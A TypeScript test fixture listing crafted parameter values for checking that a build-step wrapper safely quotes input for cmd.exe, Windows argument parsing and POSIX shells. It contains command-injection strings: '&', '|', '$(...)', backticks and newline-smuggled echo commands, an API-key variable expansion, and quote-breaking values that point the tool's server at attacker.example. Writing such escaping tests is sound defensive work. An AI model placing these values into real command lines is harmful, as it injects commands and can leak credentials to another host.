/**
 * Values that break a command line when a step pastes them into one: what each does to cmd.exe (which
 * expands %VAR% first, then splits on & | < > and ^ outside quotes), to the CommandLineToArgvW rules a
 * Windows program re-splits its line by (backslashes before a quote, a trailing backslash), and to a
 * POSIX shell ($(...), backticks, quotes). None has leading or trailing blanks, which the CLI trims.
 * `lineBreak` values cannot be one-line parameters (a branch, a URL): steps refuse them.
 */
export interface HostileValue {
  name: string;
  value: string;
  lineBreak?: true;
}

export const hostileValues: readonly HostileValue[] = [
  { name: "a quote that closes the word", value: 'feature" --server "http://attacker.example' },
  { name: "a backslash before a quote", value: 'feature\\" --server "http://attacker.example' },
  { name: "a trailing backslash", value: "release\\" },
  { name: "backslashes before the closing quote", value: 'a\\\\\\"b\\\\' },
  { name: "a percent variable", value: "release/%PATH%" },
  { name: "the API key's variable", value: "x%OCTOPUS_API_KEY%y" },
  { name: "a lone percent", value: "100% done" },
  { name: "carets", value: "^a^^b^" },
  { name: "an ampersand", value: "main & echo pwned-amp" },
  { name: "a pipe", value: "main | echo pwned-pipe" },
  { name: "redirections", value: "main <in >pwned-redirect" },
  { name: "a command substitution", value: "main-$(echo pwned-subst)" },
  { name: "backticks", value: "main-`echo pwned-tick`" },
  { name: "single quotes", value: "it's 'quoted'" },
  { name: "delayed expansion", value: "!PATH!" },
  { name: "an option of our own", value: "--server http://attacker.example" },
  { name: "unicode", value: "résumé/ß/日本語/🚀" },
  { name: "a newline", value: "main\necho pwned-lf", lineBreak: true },
  { name: "a carriage return", value: "main\recho pwned-cr", lineBreak: true },
  { name: "CRLF", value: "main\r\necho pwned-crlf", lineBreak: true },
];
